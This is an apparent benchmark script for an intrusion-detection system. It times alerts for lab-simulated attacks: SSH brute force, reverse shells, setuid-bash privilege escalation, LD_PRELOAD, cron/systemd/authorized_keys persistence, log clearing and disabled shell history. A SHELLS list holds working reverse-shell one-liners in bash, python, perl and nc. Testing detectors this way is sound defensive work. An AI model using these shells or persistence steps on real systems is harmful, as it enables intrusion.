"""Attack action → alert readable in the API: p50 and p99 over --runs runs per scenario.

The same real components as tests/e2e/test_attacks.py: a real `vigil server`, a real guest
sensor at default settings, a real sshd, an attacker in its own network namespace. Each run
makes a fresh subject (a new attacker address, a new process, new file content) so every run
is a new alert. Baseline in the same run: the same scenarios against a second sensor that only
polls (`--poll-only`: no proc connector, no inotify) — what the latency would be without the
event-driven collection; the ratio is baseline / event-driven.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import shutil
import signal
import sys
import tempfile
import time
import uuid
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from tests.conftest import running_server  # noqa: E402
from tests.harness.attacker import Attacker  # noqa: E402
from tests.harness.pgcluster import free_port  # noqa: E402
from tests.harness.procs import VIGIL, http, spawn, stop, wait_until  # noqa: E402
from tests.harness.sshd import Sshd  # noqa: E402
from tests.harness.victim import WORDLIST, Victim  # noqa: E402

SHELL_PORT = 4444
SHELLS = [
    "bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'",
    "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{ip}\",{port}));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
    "perl -e 'use Socket;$i=\"{ip}\";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");}};'",
    "rm -f {fifo}; mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | nc {ip} {port} > {fifo}",
]


def fig(value: float) -> float | None:
    """A figure for the JSON line (None for a miss, which JSON cannot write as a number)."""
    return None if value == float("inf") else round(value, 3)


def pct(values: list[float], p: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(round(p / 100 * (len(ordered) - 1))))]


class Bench:
    def __init__(self, srv: Any, sshd: Sshd, victim: Victim, scratch: Path, base: Path) -> None:
        self.srv, self.sshd, self.victim, self.scratch, self.base = srv, sshd, victim, scratch, base
        self.seen: set[int] = set()
        self.vm_id: int | None = None
        self.decoys: tuple[int, int] = (0, 0)
        self.log = base / "app.log"
        self.canary = base / "canary-credentials"

    def new_alert(self, rule: str, since: float, match: Callable[[dict[str, Any]], bool],
                  timeout: float = 30) -> float:
        """Seconds from ``since`` until the alert of ``rule`` about this run's subject
        (``match``) is readable (infinity when none came within ``timeout``: a miss)."""
        def poll() -> list[dict[str, Any]]:
            vm = f"&vm_id={self.vm_id}" if self.vm_id is not None else ""
            status, body = http("GET", f"{self.srv.url}/api/v1/alerts?rule_id={rule}{vm}&limit=50",
                                token=self.srv.admin_token)
            if status != 200:
                return []
            return [a for a in body["items"] if a["id"] not in self.seen and match(a)]

        try:
            hits = wait_until(poll, timeout=timeout, interval=0.02, what=f"a {rule} alert")
        except AssertionError:
            print(f"# no {rule} alert within {timeout} s", file=sys.stderr, flush=True)
            return float("inf")
        took = time.time() - since
        self.seen.update(a["id"] for a in hits)
        return took

    def attacker_exec(self, atk: Attacker, command: str) -> float:
        truth = atk.run("ssh-exec", atk.host_ip, str(self.sshd.port), self.victim.name,
                        self.victim.password, command)
        return float(truth[-1]["t"])


def after(alert: dict[str, Any], t0: float) -> bool:
    """The alert's observed activity is no older than ``t0`` (with a little clock slack)."""
    return datetime.fromisoformat(alert["observed_at"]).timestamp() >= t0 - 0.5


def scenarios(b: Bench, atk: Attacker, i: int, source: str) -> dict[str, float]:
    """One run of every scenario, attacking from ``source``; returns seconds per scenario."""
    out: dict[str, float] = {}
    wordlist = b.base / "wordlist.txt"
    wordlist.write_text("\n".join(WORDLIST))
    truth = atk.run("--source", source, "bruteforce", atk.host_ip, str(b.sshd.port),
                    b.victim.name, str(wordlist))
    guesses = [t for t in truth if t["action"] == "ssh-guess"]
    by_source = lambda a: a["src_ip"] == source  # noqa: E731
    out["ssh password guessing"] = b.new_alert("ssh-password-guessing", guesses[4]["t"], by_source)
    out["ssh login after failures"] = b.new_alert("ssh-login-after-failures", guesses[-1]["t"],
                                                  by_source)
    port = SHELL_PORT + i
    listener = atk.spawn("listen", str(port), "1", "B", "--hold", "5")
    try:
        assert listener.stdout is not None and "listening" in listener.stdout.readline()
        command = SHELLS[i % len(SHELLS)].format(ip=atk.ip, port=port, fifo=b.scratch / f"f{i}")
        out["reverse shell"] = b.new_alert("reverse-shell", b.attacker_exec(atk, command),
                                           lambda a: a["evidence"].get("c2", {}).get("port") == port)
    finally:
        stop(listener)  # type: ignore[arg-type]
    token = f"{8 + i / 1000:.3f}"  # a sleep of its own: this run's processes, not the last one's

    def by_token(alert: dict[str, Any]) -> bool:
        return token in alert["evidence"].get("process", {}).get("cmdline", [])

    rootsh = b.scratch / "rootsh"
    if not rootsh.exists():
        shutil.copy("/bin/bash", rootsh)
        rootsh.chmod(0o4755)
    out["privilege escalation"] = b.new_alert(
        "privilege-escalation", b.attacker_exec(atk, f"{rootsh} -p -c 'sleep {token}'; true"),
        by_token)
    out["ld_preload injection"] = b.new_alert(
        "ld-preload-injection",
        b.attacker_exec(atk, f"LD_PRELOAD=/lib/x86_64-linux-gnu/libm.so.6 sleep {token}"), by_token)
    dropper = b.scratch / f"drop{i}"
    shutil.copy("/bin/sleep", dropper)
    out["fileless execution"] = b.new_alert(
        "fileless-execution", b.attacker_exec(atk, f"{dropper} {token}"),
        lambda a: a["evidence"]["process"].get("exe") == str(dropper))
    chisel = b.scratch / "chisel"
    if not chisel.exists():
        chisel.write_bytes(Path("/bin/sleep").read_bytes() + os.urandom(64))
        chisel.chmod(0o755)
    out["remote-access tool"] = b.new_alert(
        "remote-access-tool", b.attacker_exec(atk, f"{chisel} {token}"), by_token)
    out["history disabled"] = b.new_alert(
        "history-disabled", b.attacker_exec(atk, f"export HISTFILE=/dev/null; sleep {token}"),
        lambda a: token in " ".join(a["evidence"]["process"].get("cmdline", [])))
    target = [Path(f"/etc/cron.d/vigil-bench-{b.victim.name}"),
              Path(f"/etc/systemd/system/vigil-bench-{b.victim.name}.service"),
              b.victim.home / ".ssh/authorized_keys"][i % 3]
    t0 = time.time()
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(f"# run {i} {uuid.uuid4()}\n")
    digest = hashlib.sha256(target.read_bytes()).hexdigest()
    out["persistence"] = b.new_alert("persistence", t0, lambda a: a["evidence"]["sha256"] == digest)
    with open(b.log, "a") as log:
        log.write("Nov 27 12:00:00 vm sshd[1]: Server listening on 0.0.0.0 port 22.\n" * 50)
    time.sleep(2.5)  # a fast interval: the sensor has seen the log grown
    t0 = time.time()
    with open(b.log, "r+") as log:
        log.truncate(0)
    out["log clearing"] = b.new_alert("log-clearing", t0, lambda a: after(a, t0))
    t0 = time.time()
    atk.run("--source", source, "probe-ssh", atk.host_ip, str(b.decoys[0]))
    out["decoy connection"] = b.new_alert("decoy-connection", t0, by_source)
    t0 = time.time()
    atk.run("--source", source, "probe-http", atk.host_ip, str(b.decoys[1]), f"admin{i}",
            "Winter2026!")
    out["decoy login"] = b.new_alert("decoy-login", t0, by_source)
    t0 = time.time()
    b.canary.read_bytes()
    out["canary file"] = b.new_alert("canary-file", t0, lambda a: after(a, t0))
    return out


def silence(b: Bench, srv: Any, runs: int, interval: float) -> list[float]:
    """Seconds from the third missed beat of a SIGKILLed sensor to its alert."""
    found = []
    for i in range(runs):
        token = srv.vigil("token", "enroll", "--tenant", "default")
        state = b.base / f"silent-{i}"
        sensor = spawn([VIGIL, "sensor", "guest", "--server", srv.url, "--enroll-token", token,
                        "--state-dir", str(state), "--heartbeat-interval", str(interval),
                        "--no-decoys"], log=b.base / f"silent-{i}.log")
        wait_until(lambda s=state: (s / "credentials.json").exists(), timeout=30, what="enrolment")
        time.sleep(interval * 2)
        stop(sensor, sig=signal.SIGKILL)
        killed = time.time()
        took = b.new_alert("sensor-silence", killed,
                           lambda a, k=killed: after(a, k - 3 * interval), timeout=60)
        found.append(took - 3 * interval)
        stop(sensor)
    return found


def run_phase(name: str, srv: Any, sshd: Sshd, atk: Attacker, victim: Victim, base: Path,
              runs: int, extra: list[str], first_source: int) -> dict[str, list[float]]:
    scratch = Path(tempfile.mkdtemp(prefix=f"vigil-bench-{name}-", dir="/tmp"))  # noqa: S108
    scratch.chmod(0o1777)
    bench = Bench(srv, sshd, victim, scratch, base / name)
    bench.base.mkdir()
    bench.log.write_text("")
    bench.decoys = (free_port(), free_port())
    token = srv.vigil("token", "enroll", "--tenant", "default")
    sensor = spawn([VIGIL, "sensor", "guest", "--server", srv.url, "--enroll-token", token,
                    "--state-dir", str(bench.base / "state"), "--log", str(sshd.log), "--log",
                    str(bench.log), "--decoy-ssh-port", str(bench.decoys[0]), "--decoy-http-port",
                    str(bench.decoys[1]), "--canary", str(bench.canary), *extra],
                   log=bench.base / "sensor.log")
    results: dict[str, list[float]] = {}
    try:
        def vm() -> Any:
            status, body = http("GET", f"{srv.url}/api/v1/sensors", token=srv.admin_token)
            mine = [s for s in body["items"] if s["status"] == "online" and s.get("vm_id")]
            return mine[-1]["vm_id"] if mine else None

        bench.vm_id = wait_until(vm, timeout=30, what="the sensor online")
        wait_until(bench.canary.exists, timeout=10, what="the canary")
        time.sleep(3)
        for i in range(runs):
            source = atk.add_source(first_source + i)
            # a global run number: ports, tokens and files never repeat between phases
            for scenario, took in scenarios(bench, atk, first_source + i, source).items():
                results.setdefault(scenario, []).append(took)
            print(f"# {name}: run {i + 1}/{runs} done", file=sys.stderr, flush=True)
    finally:
        stop(sensor)
        for path in (Path(f"/etc/cron.d/vigil-bench-{victim.name}"),
                     Path(f"/etc/systemd/system/vigil-bench-{victim.name}.service")):
            path.unlink(missing_ok=True)
        shutil.rmtree(scratch, ignore_errors=True)
    return results


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--runs", type=int, default=20)
    ap.add_argument("--baseline-runs", type=int, default=10)
    ap.add_argument("--silence-runs", type=int, default=20)
    args = ap.parse_args()
    with tempfile.TemporaryDirectory() as tmp, Victim(uuid.uuid4().hex[:6]) as victim, \
            Attacker(9) as atk:
        base = Path(tmp)
        sshd = Sshd(base / "sshd", listen=("127.0.0.1", atk.host_ip)).start()
        try:
            with running_server(base / "server") as srv:
                fast = run_phase("event-driven", srv, sshd, atk, victim, base, args.runs, [], 0)
                slow = run_phase("polling-only", srv, sshd, atk, victim, base, args.baseline_runs,
                                 ["--poll-only"], args.runs) if args.baseline_runs else {}
                quiet = silence(Bench(srv, sshd, victim, base, base), srv, args.silence_runs, 1.0)
        finally:
            sshd.stop()
    for scenario, values in fast.items():
        row: dict[str, Any] = {"scenario": scenario, "runs": len(values),
                               "missed": sum(v == float("inf") for v in values),
                               "p50_s": fig(pct(values, 50)), "p99_s": fig(pct(values, 99)),
                               "max_s": fig(max(values))}
        if scenario in slow:
            row["baseline_polling_p50_s"] = fig(pct(slow[scenario], 50))
            row["baseline_polling_p99_s"] = fig(pct(slow[scenario], 99))
            ratio = pct(slow[scenario], 50) / max(pct(values, 50), 1e-3)
            row["ratio_p50_baseline_over_event_driven"] = fig(ratio) and round(ratio, 2)
        print(json.dumps(row), flush=True)
    print(json.dumps({"scenario": "sensor silence (after the 3rd missed 1 s beat)",
                      "runs": len(quiet), "missed": sum(v == float("inf") for v in quiet),
                      "p50_s": fig(pct(quiet, 50)),
                      "p99_s": fig(pct(quiet, 99)), "max_s": fig(max(quiet))}), flush=True)


if __name__ == "__main__":
    main()
